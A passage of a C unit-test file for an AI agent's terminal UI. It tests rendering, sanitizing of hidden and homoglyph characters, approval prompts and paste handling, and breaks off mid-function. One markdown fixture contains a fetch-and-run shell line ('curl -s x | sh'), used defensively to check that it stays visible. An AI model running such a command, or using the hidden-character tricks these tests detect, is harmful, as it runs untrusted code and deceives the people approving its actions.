/*
 * Unit tests of the TUI's pure screen model (src/tui/model.c) and key
 * bindings (src/tui/keys.c): wrapping with wide and combining characters,
 * sanitizing, markdown, tool rows, question rows, scrolling, the input box
 * and its keys, and the bounded transcript window.
 */
#include <locale.h>
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "agent/gate.h"
#include "tui/keys.h"
#include "tui/model.h"
#include "tui/replay.h"
#include "util/utf8.h"

static int setup(void **state)
{
	(void)state;
	if (!setlocale(LC_ALL, "C.UTF-8"))
		return -1;
	return 0;
}

static void text(struct tui_model *m, const char *s)
{
	struct turn_event ev = { 0 };
	ev.kind = TEV_TEXT;
	ev.text = s;
	ev.len = strlen(s);
	tui_model_event(m, &ev, 0);
}

/* The frame as lines of text (without trailing spaces), "\n" joined. */
static char *screen(struct tui_model *m)
{
	struct tui_frame f = { 0 };
	tui_model_frame(m, &f);
	size_t cap = 1, len = 0;
	for (int i = 0; i < f.h; i++)
		cap += f.rows[i].len + 1;
	char *o = malloc(cap);
	for (int i = 0; i < f.h; i++) {
		size_t n = f.rows[i].len;
		while (n > 0 && f.rows[i].buf[n - 1] == ' ')
			n--;
		memcpy(o + len, f.rows[i].buf, n);
		len += n;
		o[len++] = '\n';
	}
	o[len] = '\0';
	tui_frame_release(&f);
	return o;
}

static char *row(struct tui_model *m, int y)
{
	struct tui_frame f = { 0 };
	tui_model_frame(m, &f);
	char *s = strdup(f.rows[y].buf);
	tui_frame_release(&f);
	return s;
}

static void test_tui_wrap_words(void **state)
{
	struct tui_seg s[8];
	const char *t = "the quick brown fox jumps";
	int n = tui_wrap(t, strlen(t), 10, 10, s, 8);
	assert_int_equal(n, 3);
	assert_int_equal(s[0].end - s[0].start, 9);	/* "the quick" */
	assert_memory_equal(t + s[1].start, "brown fox", 9);
	assert_memory_equal(t + s[2].start, "jumps", 5);
	/* a word longer than the row is cut hard */
	t = "abcdefghijklmnop";
	n = tui_wrap(t, strlen(t), 5, 5, s, 8);
	assert_int_equal(n, 4);
	assert_int_equal(s[3].end - s[3].start, 1);
	/* empty text is still one row */
	assert_int_equal(tui_wrap("", 0, 5, 5, s, 8), 1);
}

static void test_tui_wrap_wide_combining(void **state)
{
	struct tui_seg s[8];
	/* five CJK characters, two columns each, in rows of 5 columns */
	const char *t = "\xe6\xbc\xa2\xe5\xad\x97\xe6\xbc\xa2\xe5\xad\x97\xe6\xbc\xa2";
	assert_int_equal(tui_width(t, strlen(t)), 10);
	int n = tui_wrap(t, strlen(t), 5, 5, s, 8);
	assert_int_equal(n, 3);
	assert_int_equal(tui_width(t + s[0].start, s[0].end - s[0].start), 4);
	/* e + combining acute is one column and stays on its row */
	const char *c = "abcde\xcc\x81" "f";
	assert_int_equal(tui_width(c, strlen(c)), 6);
	n = tui_wrap(c, strlen(c), 5, 5, s, 8);
	assert_int_equal(n, 2);
	assert_int_equal(s[0].end, 7);	/* "abcde" + U+0301 */
	assert_string_equal(c + s[1].start, "f");
	/* a wide character never straddles: width 1 rows still progress */
	n = tui_wrap(t, strlen(t), 1, 1, s, 8);
	assert_int_equal(n, 5);
}

static void test_tui_sanitize_controls(void **state)
{
	char *o = NULL;
	size_t len = 0, cap = 0;
	int col = 0;
	const char in[] = "a\x1b[31mb\xe2\x80\xae" "c\xff\t|\xc2\x85";
	tui_sanitize(in, sizeof(in) - 1, &o, &len, &cap, &col);
	assert_string_equal(o, "a^[[31mb<U+202E>c\xef\xbf\xbd  |<U+0085>");	/* tab to column 20 */
	assert_null(strchr(o, 0x1b));
	free(o);
	o = NULL;
	len = cap = 0;
	col = 0;
	tui_sanitize("x\ny", 3, &o, &len, &cap, &col);
	assert_string_equal(o, "x^Jy");
	free(o);
}

/* The characters that draw nothing, in the model's answer, are shown as
 * the approval question shows them (gate_hidden): before, "ad\u200bmin"
 * read as "admin" and a message in tag characters read as nothing.  One
 * emoji presentation selector after a symbol is drawn; a second one, one
 * after a letter, and the joiner are shown. */
static void test_tui_sanitize_hidden(void **state)
{
	(void)state;
	static const struct {
		const char *in, *want;
	} c[] = {
		{ "run ad\xe2\x80\x8bmin", "run ad<U+200B>min" },
		{ "hi\xf3\xa0\x81\x81\xf3\xa0\x81\x82", "hi<U+E0041><U+E0042>" },	/* tag A, tag B */
		{ "\xef\xbb\xbfx\xe2\x81\xa0y\xe2\x80\xa8z", "<U+FEFF>x<U+2060>y<U+2028>z" },
		{ "\xe2\x9a\xa0\xef\xb8\x8f careful", "\xe2\x9a\xa0\xef\xb8\x8f careful" },	/* warning sign, emoji form */
		{ "\xe2\x9a\xa0\xef\xb8\x8f\xef\xb8\x8f", "\xe2\x9a\xa0\xef\xb8\x8f<U+FE0F>" },
		{ "a\xef\xb8\x8f", "a<U+FE0F>" },
		{ "\xe2\x9a\xa0\xef\xb8\x8e", "\xe2\x9a\xa0<U+FE0E>" },
		{ "\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9", "\xf0\x9f\x91\xa8<U+200D>\xf0\x9f\x91\xa9" },
	};
	for (size_t k = 0; k < sizeof(c) / sizeof(c[0]); k++) {
		char *o = NULL;
		size_t len = 0, cap = 0;
		int col = 0;
		tui_sanitize(c[k].in, strlen(c[k].in), &o, &len, &cap, &col);
		assert_string_equal(o, c[k].want);
		assert_int_equal(col, tui_width(o, len));
		free(o);
	}
}

/* The same through the model's stream, the answer whole, a byte at a
 * time and cut at random: a selector split from its symbol by a delta is
 * judged by the symbol drawn before it. */
static void test_tui_stream_hidden(void **state)
{
	(void)state;
	const char in[] = "run ad\xe2\x80\x8bmin \xe2\x9c\x85\xef\xb8\x8f\xef\xb8\x8f x\xef\xb8\x8f"
			  "\xf3\xa0\x81\x81\xf3\xa0\x81\x82\n";
	const char want[] = "run ad<U+200B>min \xe2\x9c\x85\xef\xb8\x8f<U+FE0F> x<U+FE0F><U+E0041><U+E0042>";
	size_t n = sizeof(in) - 1;
	srand(5);
	for (int way = 0; way < 12; way++) {
		struct tui_model m;
		tui_model_init(&m, 80, 10, 0);
		size_t at = 0;
		while (at < n) {
			size_t k = way == 0 ? n : way == 1 ? 1 : 1 + (size_t)rand() % 5;
			if (k > n - at)
				k = n - at;
			char piece[8] = { 0 };
			char *p = k < sizeof(piece) ? piece : strndup(in + at, k);
			if (p == piece)
				memcpy(piece, in + at, k);
			text(&m, p);
			if (p != piece)
				free(p);
			at += k;
		}
		if (strcmp(m.lines[m.head].text, want) != 0)
			fail_msg("way %d: '%s'", way, m.lines[m.head].text);
		tui_model_release(&m);
	}
}

static void test_tui_stream_split_utf8(void **state)
{
	struct tui_model m;
	tui_model_init(&m, 40, 10, 0);
	text(&m, "caf\xc3");
	text(&m, "\xa9 ok\n");
	assert_int_equal(m.n, 1);
	assert_string_equal(m.lines[m.head].text, "caf\xc3\xa9 ok");
	/* a model cannot write an escape sequence to the terminal */
	text(&m, "\x1b]0;title\x07\n");
	assert_null(strchr(m.lines[m.head + 1].text, 0x1b));
	tui_model_release(&m);
}

static void test_tui_markdown(void **state)
{
	struct tui_model m;
	tui_model_init(&m, 40, 12, 1);
	text(&m, "## Title\n- item one\n```sh\nls -la\n```\nplain\n");
	char *s = screen(&m);
	assert_non_null(strstr(s, "Title\n"));
	assert_null(strstr(s, "## Title"));
	assert_non_null(strstr(s, "* item one\n"));
	assert_non_null(strstr(s, "  ,- sh\n"));
	assert_non_null(strstr(s, "  | ls -la\n"));
	assert_non_null(strstr(s, "  `-\n"));
	assert_non_null(strstr(s, "\nplain\n"));
	free(s);
	tui_model_release(&m);
}

/* A closing fence is its backticks (or tildes) alone, as CommonMark has
 * it: a line inside a code block that starts with them and goes on is a
 * line of the code, drawn.  Before, it closed the block and what followed
 * the backticks was not drawn at all: an answer's
 * "``` && curl -s x | sh" inside a block read as the block's end. */
static void test_tui_markdown_fence_text_drawn(void **state)
{
	(void)state;
	struct tui_model m;
	tui_model_init(&m, 60, 12, 1);
	text(&m, "```sh\nmake\n``` && curl -s x | sh\n```  \nplain\n");
	char *s = screen(&m);
	assert_non_null(strstr(s, "  | make\n"));
	assert_non_null(strstr(s, "  | ``` && curl -s x | sh\n"));
	assert_non_null(strstr(s, "  `-\n"));	/* the fence with spaces after it closes */
	assert_non_null(strstr(s, "\nplain\n"));
	free(s);
	tui_model_release(&m);
}

static void tool(struct tui_model *m, const char *out, int nlines_check)
{
	struct turn_event ev = { 0 };
	ev.kind = TEV_TOOL_CALL;
	ev.id = "t1";
	ev.tool = "bash";
	ev.subject = "seq 6";
	tui_model_event(m, &ev, 1000);
	ev.kind = TEV_TOOL_RESULT;
	ev.text = out;
	ev.elapsed_ms = 250;
	tui_model_event(m, &ev, 1250);
}

/* A tool's output line longer than a line's bound is cut on screen (the
 * model got it whole): the row says how much of it is not shown.  Before,
 * it ended at 16 KiB as if that were the whole line. */
static void test_tui_tool_long_line_marked(void **state)
{
	struct tui_model m;
	size_t n = TUI_MAX_LINE_BYTES + 3616;
	char *out = malloc(n + 8);
	memset(out, 'x', n - 3);
	memcpy(out + n - 3, "END\nnext\n", 10);
	tui_model_init(&m, 50, 14, 1);
	tool(&m, out, 2);
	char *t = tui_model_transcript(&m), want[64];
	snprintf(want, sizeof(want), "xxx... [line cut: %zu more bytes]\n", n - (TUI_MAX_LINE_BYTES - TUI_CUT_MARK_ROOM));
	assert_non_null(strstr(t, want));
	assert_null(strstr(t, "END"));
	assert_non_null(strstr(t, "\n    next\n"));
	free(t);
	free(out);
	tui_model_release(&m);
}

static void test_tui_tool_fold(void **state)
{
	struct tui_model m;
	tui_model_init(&m, 50, 14, 1);
	tool(&m, "1\n2\n3\n4\n5\n6\n", 6);
	char *s = screen(&m);
	assert_non_null(strstr(s, "* bash seq 6 | ok 250 ms\n"));
	assert_non_null(strstr(s, "  | 1\n    2\n    3\n    4\n"));
	assert_null(strstr(s, "    5\n"));
	assert_non_null(strstr(s, "... 2 more lines (ctrl-o shows them)"));
	free(s);
	tui_model_toggle_tools(&m);
	s = screen(&m);
	assert_non_null(strstr(s, "    5\n    6\n"));
	assert_null(strstr(s, "more lines"));
	free(s);
	tui_model_release(&m);
	/* one line past the fold: "line", and ctrl-o still hides the row */
	tui_model_init(&m, 50, 14, 1);
	tool(&m, "1\n2\n3\n4\n5\n", 5);
	s = screen(&m);
	assert_non_null(strstr(s, "... 1 more line (ctrl-o shows them)"));
	free(s);
	tui_model_toggle_tools(&m);
	s = screen(&m);
	assert_non_null(strstr(s, "    5\n"));
	assert_null(strstr(s, "more line"));
	free(s);
	tui_model_release(&m);
}

/* The tool's name is the model's: a Cyrillic letter in a word of ASCII
 * letters is shown, as in the subject (before, 'r\u0435ad' read as read). */
static void test_tui_tool_name_mixed_script(void **state)
{
	(void)state;
	struct tui_model m;
	tui_model_init(&m, 60, 8, 0);
	struct turn_event ev = { 0 };
	ev.kind = TEV_TOOL_CALL;
	ev.id = "t1";
	ev.tool = "r\xd0\xb5" "ad";
	ev.subject = "x";
	tui_model_event(&m, &ev, 1000);
	char *s = screen(&m);
	assert_non_null(strstr(s, "r<U+0435>ad x"));
	assert_null(strstr(s, "r\xd0\xb5" "ad"));
	free(s);
	tui_model_release(&m);
}

/* A tool row's time and the status row's: under a second in ms, as
 * prov_duration says a wait (a 30 ms call read "0.0 s"); a call replayed
 * from a stored session, whose time is not known, shows none. */
static void test_tui_tool_elapsed(void **state)
{
	(void)state;
	static const struct {
		uint64_t ms;
		const char *want;
	} c[] = {
		{ 0, "ok 0 ms\n" }, { 30, "ok 30 ms\n" }, { 49, "ok 49 ms\n" }, { 999, "ok 999 ms\n" },
		{ 1000, "ok 1.0 s\n" }, { 1250, "ok 1.2 s\n" }, { 12000, "ok 12 s\n" }, { 61000, "ok 1m01s\n" },
	};
	for (size_t k = 0; k < sizeof(c) / sizeof(c[0]); k++) {
		struct tui_model m;
		tui_model_init(&m, 50, 10, 1);
		struct turn_event ev = { 0 };
		ev.kind = TEV_TOOL_CALL;
		ev.id = "t1";
		ev.tool = "bash";
		ev.subject = "true";
		tui_model_event(&m, &ev, 1000);
		ev.kind = TEV_TOOL_RESULT;
		ev.text = "";
		ev.elapsed_ms = c[k].ms;
		tui_model_event(&m, &ev, 1000 + c[k].ms);
		char *s = screen(&m);
		if (!strstr(s, c[k].want))
			fail_msg("%u ms: '%s'", (unsigned)c[k].ms, s);
		free(s);
		tui_model_release(&m);
	}
	/* the turn's count in the status row: a turn 40 ms old */
	struct tui_model m;
	tui_model_init(&m, 80, 10, 1);
	tui_model_user(&m, "go", 5000);
	m.now_ms = 5040;
	char *s = screen(&m);
	assert_non_null(strstr(s, "working 40 ms (esc stops)"));
	free(s);
	tui_model_release(&m);
}

static void question(struct tui_model *m, int difflines)
{
	char diff[4096] = "";
	for (int i = 0; i < difflines; i++) {
		char l[32];
		snprintf(l, sizeof(l), "+line %d\n", i);
		strcat(diff, l);
	}
	char *whole = gate_whole("write", "{\"path\":\"/w/a.txt\"}", difflines ? diff : NULL);	/* as the agent does */
	struct approval_question q = { "write", "/w/a.txt", "{\"path\":\"/w/a.txt\"}", difflines ? diff : NULL, whole, 0 };
	tui_model_question(m, &q);
	free(whole);
}

static void test_tui_question_rows(void **state)
{
	struct tui_model m;
	tui_model_init(&m, 80, 24, 1);
	question(&m, 2);
	assert_true(tui_model_question_fits(&m));
	char *s = screen(&m);
	assert_non_null(strstr(s, ", write wants to run: /w/a.txt\n| arguments:"));
	assert_non_null(strstr(s, "| +line 1\n` y yes, n no"));
	free(s);
	tui_model_release(&m);
}

/* No row is wider than the pane, however narrow: a wider one spilled onto
 * the row under it in the terminal, where a row not redrawn kept it. */
static void test_tui_rows_fit_narrow(void **state)
{
	for (int w = 1; w <= 24; w++) {
		struct tui_model m;
		struct tui_frame f = { 0 };
		tui_model_init(&m, w, 30, 0);
		text(&m, "                - OVERFLOW OVERFLOW\n\xe6\xbc\xa2\xe5\xad\x97\n");
		tui_model_frame(&m, &f);
		for (int y = 0; y < f.h; y++)
			assert_true(tui_width(f.rows[y].buf, f.rows[y].len) <= w);
		tui_frame_release(&f);
		tui_model_release(&m);
	}
}

static void test_tui_question_marks_tool_row(void **state)
{
	struct tui_model m;
	struct turn_event ev = { 0 };
	tui_model_init(&m, 80, 24, 1);
	ev.kind = TEV_TOOL_CALL;
	ev.id = "w1";
	ev.tool = "write";
	ev.subject = "/w/a.txt";
	tui_model_event(&m, &ev, 0);
	question(&m, 0);
	char *s = screen(&m);
	assert_non_null(strstr(s, "* write /w/a.txt | waiting for your answer"));
	free(s);
	tui_model_question_end(&m);
	s = screen(&m);
	assert_non_null(strstr(s, "* write /w/a.txt | running"));
	free(s);
	tui_model_release(&m);
}

static void test_tui_question_first_last(void **state)
{
	struct tui_model m;
	tui_model_init(&m, 80, 8, 1);
	question(&m, 30);	/* 33 rows in a pane of 8 */
	assert_true(tui_model_question_fits(&m));
	char *s = screen(&m);
	/* 7 rows above the status line: 3 first, "...", 3 last */
	assert_non_null(strstr(s, ", write wants to run: /w/a.txt\n| arguments: {\"path\":\"/w/a.txt\"}\n| +line 0\n| ...\n| +line 28\n| +line 29\n` y yes"));
	free(s);
	/* too small even for first, "...", last: the question cannot be asked */
	tui_model_resize(&m, 80, 3);
	assert_false(tui_model_question_fits(&m));
	tui_model_resize(&m, 80, 4);
	assert_true(tui_model_question_fits(&m));
	s = screen(&m);
	assert_non_null(strstr(s, ", write wants to run: /w/a.txt\n| ...\n` y yes"));
	free(s);
	/* narrow: the answer line wraps, and all of its rows are shown under
	 * the "..." (never only its tail); with no room for them the
	 * question cannot be asked */
	tui_model_resize(&m, 30, 8);
	assert_true(tui_model_question_fits(&m));
	s = screen(&m);
	assert_non_null(strstr(s, "| ...\n` y yes, n no + reason, a"));
	assert_non_null(strstr(s, "esc refuses and stops"));
	free(s);
	tui_model_resize(&m, 30, 4);
	assert_false(tui_model_question_fits(&m));
	/* tall but too narrow for the tool's name on the first row: a pane
	 * of 2 columns showed only the row glyphs, nothing of the question,
	 * and still took y */
	tui_model_resize(&m, 2, 200);
	assert_false(tui_model_question_fits(&m));
	tui_model_resize(&m, 6, 200);
	assert_false(tui_model_question_fits(&m));
	tui_model_resize(&m, 7, 200);
	assert_true(tui_model_question_fits(&m));
	s = screen(&m);
	assert_non_null(strstr(s, "\n, write\n"));
	free(s);
	tui_model_release(&m);
}

static void test_tui_scroll_anchor(void **state)
{
	struct tui_model m;
	char b[32];
	tui_model_init(&m, 30, 10, 1);
	for (int i = 0; i < 40; i++) {
		snprintf(b, sizeof(b), "line %d\n", i);
		text(&m, b);
	}
	char *s = row(&m, 7);
	assert_string_equal(s, "line 39");	/* follows the bottom */
	free(s);
	tui_model_scroll_page(&m, -1);		/* 8 rows, 7 per page */
	s = row(&m, 0);
	assert_string_equal(s, "line 25");
	free(s);
	text(&m, "line 40\nline 41\n");		/* new text does not move the view */
	s = row(&m, 0);
	assert_string_equal(s, "line 25");
	free(s);
	s = row(&m, 9);
	assert_non_null(strstr(s, "scrolled"));
	free(s);
	for (int i = 0; i < 5; i++)
		tui_model_scroll_page(&m, 1);
	assert_int_equal(m.follow, 1);
	s = row(&m, 7);
	assert_string_equal(s, "line 41");
	free(s);
	/* the top is a stop */
	for (int i = 0; i < 20; i++)
		tui_model_scroll_page(&m, -1);
	s = row(&m, 0);
	assert_string_equal(s, "line 0");
	free(s);
	tui_model_release(&m);
}

static void test_tui_resize_rewraps(void **state)
{
	struct tui_model m;
	tui_model_init(&m, 40, 6, 1);
	text(&m, "aaaa bbbb cccc dddd eeee ffff\n");
	char *s = row(&m, 0);
	assert_string_equal(s, "aaaa bbbb cccc dddd eeee ffff");
	free(s);
	tui_model_resize(&m, 10, 6);
	s = screen(&m);
	assert_non_null(strstr(s, "aaaa bbbb\ncccc dddd\neeee ffff\n"));
	free(s);
	tui_model_release(&m);
}

static void test_tui_input_editing(void **state)
{
	struct tui_input in;
	tui_input_init(&in);
	tui_input_insert(&in, "hello world", 11);
	tui_input_kill_word(&in);
	assert_string_equal(in.buf, "hello ");
	tui_input_home(&in);
	tui_input_insert(&in, ">", 1);
	assert_string_equal(in.buf, ">hello ");
	tui_input_end(&in);
	tui_input_insert(&in, "\xe6\xbc\xa2" "e\xcc\x81", 6);
	tui_input_left(&in);			/* over e + combining as one */
	assert_int_equal(in.cur, strlen(">hello \xe6\xbc\xa2"));
	tui_input_left(&in);
	tui_input_delete(&in);			/* the CJK character */
	assert_string_equal(in.buf, ">hello e\xcc\x81");
	tui_input_kill_start(&in);
	assert_string_equal(in.buf, "e\xcc\x81");
	tui_input_set(&in, "one\ntwo\nthree");
	tui_input_home(&in);
	tui_input_kill_end(&in);
	assert_string_equal(in.buf, "one\ntwo\n");
	tui_input_kill_end(&in);		/* at the line end: joins */
	tui_input_kill_end(&in);
	assert_string_equal(in.buf, "one\ntwo\n");
	/* up and down move between rows, keeping the column */
	tui_input_set(&in, "abcdef\nxy\nlonger line");
	assert_int_equal(tui_input_vmove(&in, 40, 2, -1), 1);
	assert_int_equal(in.cur, strlen("abcdef\nxy"));
	assert_int_equal(tui_input_vmove(&in, 40, 2, -1), 1);
	assert_int_equal(in.cur, 2);
	assert_int_equal(tui_input_vmove(&in, 40, 2, -1), 0);
	/* a long line wraps into rows; the cursor at the end of a full row
	 * goes to the next row */
	tui_input_set(&in, "0123456789");
	int cr, cc;
	struct tui_seg s[4];
	assert_int_equal(tui_input_layout(&in, 7, 2, s, 4, &cr, &cc), 3);
	assert_int_equal(cr, 2);
	assert_int_equal(cc, 0);
	/* control characters typed or pasted are kept (drawn as ^X:
	 * test_tui_input_controls) */
	tui_input_set(&in, "a\x1b" "b");
	assert_string_equal(in.buf, "a\x1b" "b");
	tui_input_release(&in);
}

static void key(struct tui_model *m, enum tui_keycode c, uint32_t ch, struct tui_act *a)
{
	struct tui_key k = { c, ch };
	tui_keys_apply(m, &k, a);
}

static void type(struct tui_model *m, const char *s)
{
	struct tui_act a;
	for (; *s; s++)
		key(m, TK_CHAR, (unsigned char)*s, &a);
}

static void test_tui_keys_send_history(void **state)
{
	struct tui_model m;
	struct tui_act a;
	tui_model_init(&m, 40, 10, 1);
	type(&m, "first");
	key(&m, TK_NEWLINE, 0, &a);		/* ctrl-j / alt-Enter: newline */
	type(&m, "x");
	assert_string_equal(m.in.buf, "first\nx");
	key(&m, TK_ENTER, 0, &a);
	assert_int_equal(a.act, TACT_SEND);
	assert_string_equal(a.prompt, "first\nx");
	free(a.prompt);
	assert_int_equal(m.in.len, 0);
	type(&m, "second");
	key(&m, TK_ENTER, 0, &a);
	free(a.prompt);
	key(&m, TK_UP, 0, &a);
	assert_string_equal(m.in.buf, "second");
	key(&m, TK_UP, 0, &a);			/* moves to the earlier prompt's last row? no: one row, history */
	assert_string_equal(m.in.buf, "first\nx");
	key(&m, TK_DOWN, 0, &a);
	assert_string_equal(m.in.buf, "second");
	key(&m, TK_DOWN, 0, &a);
	assert_string_equal(m.in.buf, "");
	/* Enter while a turn runs does not send */
	m.busy = 1;
	type(&m, "later");
	key(&m, TK_ENTER, 0, &a);
	assert_int_equal(a.act, TACT_NONE);
	key(&m, TK_ESC, 0, &a);
	assert_int_equal(a.act, TACT_STOP);
	/* pressed again while the turn stops: no second stop, so no second
	 * "stopping the turn" note (before, each press added one) */
	key(&m, TK_ESC, 0, &a);
	assert_int_equal(a.act, TACT_NONE);
	key(&m, TK_CTRL, 'c', &a);
	assert_int_equal(a.act, TACT_NONE);
	/* the next turn stops again, by ctrl-c too, once */
	tui_model_turn_done(&m);
	tui_model_user(&m, "again", 0);
	key(&m, TK_CTRL, 'c', &a);
	assert_int_equal(a.act, TACT_STOP);
	key(&m, TK_ESC, 0, &a);
	assert_int_equal(a.act, TACT_NONE);
	tui_model_release(&m);
}

static void test_tui_keys_quit(void **state)
{
	struct tui_model m;
	struct tui_act a;
	tui_model_init(&m, 40, 10, 1);
	type(&m, "ab");
	key(&m, TK_CTRL, 'd', &a);		/* not empty: no quit */
	assert_int_equal(a.act, TACT_NONE);
	key(&m, TK_CTRL, 'c', &a);		/* clears */
	assert_int_equal(a.act, TACT_NONE);
	assert_int_equal(m.in.len, 0);
	key(&m, TK_CTRL, 'd', &a);
	assert_int_equal(a.act, TACT_QUIT);
	key(&m, TK_CTRL, 'c', &a);
	assert_int_equal(a.act, TACT_QUIT);
	tui_model_release(&m);
}

static void test_tui_keys_paste(void **state)
{
	struct tui_model m;
	struct tui_act a;
	tui_model_init(&m, 40, 10, 1);
	key(&m, TK_PASTE_START, 0, &a);
	type(&m, "line1");
	key(&m, TK_ENTER, 0, &a);
	assert_int_equal(a.act, TACT_NONE);	/* Enter in a paste is text */
	type(&m, "line2");
	key(&m, TK_PASTE_END, 0, &a);
	assert_string_equal(m.in.buf, "line1\nline2");
	/* a paste never answers a question */
	question(&m, 0);
	key(&m, TK_PASTE_START, 0, &a);
	type(&m, "y");
	assert_int_equal(a.act, TACT_NONE);
	key(&m, TK_PASTE_END, 0, &a);
	assert_int_equal(m.q, TQ_ASK);
	tui_model_release(&m);
}

/* A paste longer than the input box is cut at TUI_MAX_INPUT, and the user
 * is told (once), not left to send a prompt cut short unknowingly. */
static void tkey(struct tui_model *m, enum tui_keycode c, uint32_t ch, uint64_t ms, int burst, struct tui_act *a);

/* A paste that carries the end marker itself (ESC [ 201 ~, then a line
 * break and more text): the terminal's own marker comes after it, so the
 * fake one has input waiting behind it (burst) and does not end the
 * paste.  Before, the line break after it sent the prompt. */
static void test_tui_keys_paste_fake_end(void **state)
{
	struct tui_model m;
	struct tui_act a;
	tui_model_init(&m, 40, 10, 1);
	tkey(&m, TK_PASTE_START, 0, 1000, 1, &a);
	for (const char *c = "harmless"; *c; c++)
		tkey(&m, TK_CHAR, (unsigned char)*c, 1000, 1, &a);
	tkey(&m, TK_PASTE_END, 0, 1000, 1, &a);		/* the fake marker */
	struct tui_key k = { TK_ENTER, 0, 1000, 1 };
	tui_keys_apply(&m, &k, &a);
	assert_int_equal(a.act, TACT_NONE);
	free(a.prompt);
	for (const char *c = "tail"; *c; c++)
		tkey(&m, TK_CHAR, (unsigned char)*c, 1000, 1, &a);
	tkey(&m, TK_PASTE_END, 0, 1000, 0, &a);		/* the terminal's */
	assert_int_equal(m.paste, 0);
	assert_string_equal(m.in.buf, "harmless\ntail");
	k.burst = 0;
	tui_keys_apply(&m, &k, &a);
	assert_int_equal(a.act, TACT_SEND);
	free(a.prompt);
	/* a long paste, and Enter typed while it was still being read: the
	 * real end marker has the Enter behind it; the Enter, last, sends */
	tkey(&m, TK_PASTE_START, 0, 2000, 1, &a);
	tkey(&m, TK_CHAR, 'p', 2000, 1, &a);
	tkey(&m, TK_PASTE_END, 0, 2000, 1, &a);
	k.burst = 0;
	tui_keys_apply(&m, &k, &a);
	assert_int_equal(a.act, TACT_SEND);
	assert_string_equal(a.prompt, "p");
	free(a.prompt);
	assert_int_equal(m.paste, 0);
	tui_model_release(&m);
}

static void test_tui_keys_paste_too_long(void **state)
{
	struct tui_model m;
	struct tui_act a;
	tui_model_init(&m, 40, 10, 1);
	key(&m, TK_PASTE_START, 0, &a);
	for (size_t i = 0; i < TUI_MAX_INPUT; i++)
		key(&m, TK_CHAR, 'x', &a);
	char *t = tui_model_transcript(&m);
	assert_null(strstr(t, "64 KiB"));	/* full, nothing cut yet */
	free(t);
	type(&m, "yz");
	key(&m, TK_PASTE_END, 0, &a);
	assert_int_equal(m.in.len, TUI_MAX_INPUT);
	t = tui_model_transcript(&m);
	char *n = strstr(t, "the input box holds at most 64 KiB");
	assert_non_null(n);
	assert_null(strstr(n + 1, "the input box holds at most 64 KiB"));	/* once */
	free(t);
	/* sent and emptied: a later cut is said again */
	key(&m, TK_ENTER, 0, &a);
	assert_int_equal(a.act, TACT_SEND);
	free(a.prompt);
	tui_model_turn_done(&m);
	key(&m, TK_PASTE_START, 0, &a);
	for (size_t i = 0; i < TUI_MAX_INPUT + 1; i++)
		key(&m, TK_CHAR, 'x', &a);
	t = tui_model_transcript(&m);
	n = strstr(t, "the input box holds at most 64 KiB");
	assert_non_null(n);
	assert_non_null(strstr(n + 1, "the input box holds at most 64 KiB"));
	free(t);
	tui_model_release(&m);
}

/*
 * A paste read in bulk (tui_keys_read, keys.h) against the same bytes read
 * one key at a time (the keys render_key makes of them, applied one by
 * one): the same box, whether the bytes come at once, a byte at a time or
 * cut anywhere.  Each piece: the bytes, and the key they were (key set:
 * code, ch; else each character of the bytes as typed).
 */
struct piece {
	const char *bytes;
	int key;
	enum tui_keycode code;
	uint32_t ch;
};
#define TXT(s) { s, 0, TK_NONE, 0 }
#define KEY(s, c, ch) { s, 1, c, ch }

static const struct piece paste_pieces[] = {
	TXT("plain text, caf\xc3\xa9 \xe6\xbc\xa2\xe5\xad\x97 \xf0\x9f\x99\x82 e\xcc\x81"),
	KEY("\t", TK_CHAR, '\t'),
	TXT("col\tumn"),
	KEY("\r", TK_ENTER, '\r'),
	KEY("\n", TK_NEWLINE, '\n'),
	KEY("\x01", TK_CTRL, 'a'),
	KEY("\x7f", TK_BACKSPACE, 0x7f),
	KEY("\b", TK_BACKSPACE, 8),
	TXT("C1 \xc2\x85 bidi \xe2\x80\xae zw \xe2\x80\x8b"),
	KEY("\033[31m", TK_NONE, 0),		/* a colour, unknown to the key table */
	TXT("red"),
	KEY("\033[1;5A", TK_NONE, 0),		/* ctrl-up */
	KEY("\033OA", TK_NONE, 0),		/* up, keypad mode */
	KEY("\033O1;5Q", TK_NONE, 0),		/* ctrl-F2, the old SS3 form */
	KEY("\033x", TK_NONE, 0),		/* alt-x */
	KEY("\033\r", TK_NEWLINE, 0),		/* alt-Enter */
	KEY("\033[M`!!", TK_NONE, 0),		/* a wheel report, X10 */
	KEY("\033[<65;3;4M", TK_NONE, 0),	/* a wheel report, SGR */
	KEY("\033[200~", TK_PASTE_START, 0),	/* a start marker inside */
	KEY("\033OM", TK_ENTER, 0),		/* keypad Enter (kent, xterm) */
	TXT("last line"),
};

static void apply_free(struct tui_model *m, const struct tui_key *k)
{
	struct tui_act a;
	tui_keys_apply(m, k, &a);
	assert_int_equal(a.act, TACT_NONE);	/* nothing in a paste acts */
	free(a.prompt);
	free(a.reason);
}

/* One key at a time, as render_key made them. */
static void paste_keys(struct tui_model *m, const struct piece *pc, size_t npc)
{
	struct tui_key k = { TK_PASTE_START };
	apply_free(m, &k);
	for (size_t i = 0; i < npc; i++) {
		const unsigned char *b = (const unsigned char *)pc[i].bytes;
		size_t n = strlen(pc[i].bytes);
		if (pc[i].key) {
			struct tui_key e = { pc[i].code, pc[i].ch };
			apply_free(m, &e);
			continue;
		}
		for (size_t j = 0; j < n;) {
			uint32_t cp;
			int l = utf8_decode(b + j, n - j, &cp);
			assert_true(l > 0);
			struct tui_key e = { TK_CHAR, cp };
			apply_free(m, &e);
			j += (size_t)l;
		}
	}
	struct tui_key e = { TK_PASTE_END };
	apply_free(m, &e);
}

/* The same bytes, the end marker after them, read in bulk in chunks cut
 * at the offsets cuts[0..ncuts) (ascending). */
static void paste_bulk(struct tui_model *m, const char *bytes, size_t n, const size_t *cuts, size_t ncuts)
{
	struct tui_keyrd rd;
	memset(&rd, 0, sizeof(rd));
	rd.kent = "\033OM";
	struct tui_key k = { TK_PASTE_START };
	apply_free(m, &k);
	char *all = malloc(n + 6);
	memcpy(all, bytes, n);
	memcpy(all + n, "\033[201~", 6);
	n += 6;
	size_t from = 0;
	for (size_t c = 0; c <= ncuts; c++) {
		size_t to = c < ncuts ? cuts[c] : n;
		size_t off = 0;
		int r;
		while ((r = tui_keys_read(&rd, (const unsigned char *)all + from, to - from, &off, 1, 0, &k)) > 0) {
			k.burst = from + off < n;
			apply_free(m, &k);
		}
